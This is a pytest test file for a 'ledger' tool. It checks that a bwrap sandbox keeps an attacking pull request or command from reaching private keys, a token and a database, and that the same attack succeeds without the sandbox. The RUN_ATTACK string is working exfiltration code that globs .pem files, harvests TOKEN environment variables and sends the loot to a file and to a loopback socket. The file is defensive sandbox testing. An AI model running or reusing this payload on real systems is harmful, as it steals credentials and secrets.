"""A pull request that attacks its qualifier: it reaches nothing secret, honest claims pass.

The pull request's workload, at import (in the fork server, each claim process and
gradient-compare's arms) and in ``setup()``, reads every key, the token and the
database it can find and reports them through a file outside its scratch folder, a
loopback socket and its own progress lines. After ``ledger qualify --pr 2`` nothing
secret arrived on any channel, in any receipt or artifact; the same attack without
the sandbox (``--sandbox none``) does reach them, so the test can fail. The attack
itself is `scripts.device.sandbox_attack`'s, which also runs it on a GPU host.
"""

from __future__ import annotations

import json
import os
import secrets
import socket
import sys
from collections.abc import Iterator
from pathlib import Path

import git
import pytest

from scripts.device.sandbox_attack import (
    ATTACK,
    CLAIMS,
    PG_SOCKETS,
    Listener,
    attacking_pr,
    stolen,
)
from scripts.example_repo import make_example_repo
from tests.ledger.helpers import run


@pytest.fixture
def listener() -> Iterator[Listener]:
    lst = Listener()
    yield lst
    lst.close()


def test_an_attacking_pull_request_reaches_nothing_and_honest_claims_pass(
    tmp_path: Path,
    key_dir: Path,
    monkeypatch: pytest.MonkeyPatch,
    capfd: pytest.CaptureFixture[str],
    listener: Listener,
) -> None:
    db = tmp_path / "l.db"
    token = "tok-" + secrets.token_hex(16)
    monkeypatch.setenv("LEDGER_DB", str(db))
    monkeypatch.setenv("LEDGER_TOKEN", token)
    assert run(capfd, "init").code == 0
    assert run(capfd, "keys", "new", "runner", "--role", "runner").code == 0
    example = make_example_repo(tmp_path / "repo").path
    out = tmp_path / "exfil"
    out.mkdir()
    loot = [f"{key_dir}/*.pem", str(db), f"{Path.home()}/.config/ledger/keys/*.pem"]
    # A Unix socket of the host's (the qualifier's folder), and PostgreSQL's where it runs.
    host_sock = socket.socket(socket.AF_UNIX)
    host_sock.bind(str(tmp_path / "host.sock"))
    host_sock.listen(8)
    sockets = [str(tmp_path / "host.sock"), *(p for p in PG_SOCKETS if os.path.exists(p))]
    attack = ATTACK.format(loot=loot, db=str(db), out=str(out), port=listener.port, sockets=sockets)
    attacking_pr(example, attack)
    pems = [p.read_text() for p in sorted(key_dir.glob("*.pem"))]
    assert len(pems) >= 2  # the runner's key and the ledger's
    # A line from the middle of each private key, the token, the database's header.
    needles = [pem.splitlines()[1] for pem in pems] + [token, "SQLite format 3"]

    claims = [a for c in CLAIMS for a in ("--claim", c)]
    r = run(capfd, "qualify", "--pr", "2", "--repo", str(example), *claims, "--json")
    doc = json.loads(r.out)
    assert [x["outcome"] for x in doc["receipts"]] == ["passed"] * 3, r.err[-3000:]
    assert r.code == 1  # three of the plan's six claims ran: the whole plan decides
    # The attack ran where the pull request's code runs, and found nothing.
    assert "attack import:forkserver.py" in r.err
    # ... and in the claim process (`python -m runners.rank`: runners/rank/__main__.py).
    assert "attack setup:__main__.py" in r.err
    assert " stole " in r.err and stolen(r.err) == []
    # Nothing arrived anywhere: not outside the scratch folder, not over loopback,
    # not in the progress lines, the receipts or the artifacts.
    assert list(out.iterdir()) == [] and listener.received == []
    shown = [run(capfd, "show", x["id"], "--json").out for x in doc["receipts"]]
    stored = [p.read_bytes().decode("latin-1") for p in tmp_path.glob("artifacts/**/*")]
    stored = [s for s in stored if s]
    for needle in needles:
        for text in (r.out, r.err, *shown, *stored):
            assert needle not in text
    scopes = [json.loads(s)["statement"]["predicate"]["scope"] for s in shown]
    assert {s["sandbox"] for s in scopes} == {"bwrap"}
    assert run(capfd, "audit").code == 0

    # Without the sandbox the same pull request reaches all of it, also from the
    # gradient arms: what the sandbox stopped was a real attack.
    r = run(
        capfd,
        "qualify",
        "--pr",
        "2",
        "--repo",
        str(example),
        "--claim",
        "numerics.gradient-compare",
        "--sandbox",
        "none",
    )
    arms = [p for p in out.iterdir() if "grad_arm" in p.name]
    assert arms, sorted(p.name for p in out.iterdir())
    assert all(needles[0] in p.read_text() and token in p.read_text() for p in arms)
    assert any(token.encode() in got for got in listener.received)
    assert "database-writable" in r.err
    assert "unix-connected:" in r.err
    host_sock.close()


RUN_ATTACK = """
import glob, os, socket, sys
loot = []
for pattern in {loot!r}:
    for f in glob.glob(pattern):
        try:
            loot.append(open(f, "rb").read().decode("latin-1"))
        except OSError:
            pass
loot += [k + "=" + v for k, v in os.environ.items() if "TOKEN" in k or k == "LEDGER_KEYS"]
try:
    open({db!r}, "r+b").close()
    loot.append("database-writable")
except OSError:
    pass
text = "|".join(loot)
try:
    open(os.path.join({out!r}, "run"), "w").write(text)
except OSError:
    pass
try:
    with socket.create_connection(("127.0.0.1", {port}), timeout=2) as s:
        s.sendall(text.encode())
except OSError:
    pass
print("stole", len(loot), text, flush=True)
print("ledger variables:", sorted(k for k in os.environ if k.startswith("LEDGER_")), flush=True)
"""


def test_ledger_run_keeps_an_attacking_command_from_every_secret(
    tmp_path: Path,
    key_dir: Path,
    repo: git.Repo,
    monkeypatch: pytest.MonkeyPatch,
    capfd: pytest.CaptureFixture[str],
    listener: Listener,
) -> None:
    from tests.conftest import commit_file

    db = tmp_path / "l.db"
    token = "tok-" + secrets.token_hex(16)
    monkeypatch.setenv("LEDGER_DB", str(db))
    monkeypatch.setenv("LEDGER_TOKEN", token)
    monkeypatch.chdir(tmp_path)
    commit_file(repo, "qualification.toml", '[[claims]]\nname = "suite"\ncheck = "command"\n', "p")
    assert run(capfd, "init").code == 0
    assert run(capfd, "keys", "new", "runner", "--role", "runner").code == 0
    out = tmp_path / "exfil"
    out.mkdir()
    code = RUN_ATTACK.format(
        loot=[f"{key_dir}/*.pem", str(db)], db=str(db), out=str(out), port=listener.port
    )
    needles = [p.read_text().splitlines()[1] for p in key_dir.glob("*.pem")]
    needles += [token, "SQLite format 3"]
    args = ("run", "--claim", "suite", "--rev", "main", "--repo", str(repo.working_tree_dir))
    cmd = ("--key", "runner", "--", sys.executable, "-c", code)
    r = run(capfd, *args, *cmd)
    assert r.code == 0, r.err
    assert "stole 0" in r.err and "ledger variables: ['LEDGER_RUN_ID']" in r.err
    assert list(out.iterdir()) == [] and listener.received == []
    shown = run(capfd, "show", r.out.strip(), "--json").out
    assert json.loads(shown)["statement"]["predicate"]["scope"]["sandbox"] == "bwrap"
    for needle in needles:
        assert needle not in r.out + r.err + shown
    # Unsandboxed, the same command reaches them all: the test can fail.
    r = run(capfd, *args, "--sandbox", "none", *cmd)
    assert token in (out / "run").read_text() and needles[0] in (out / "run").read_text()
    assert any(token.encode() in got for got in listener.received)
    assert "database-writable" in r.err
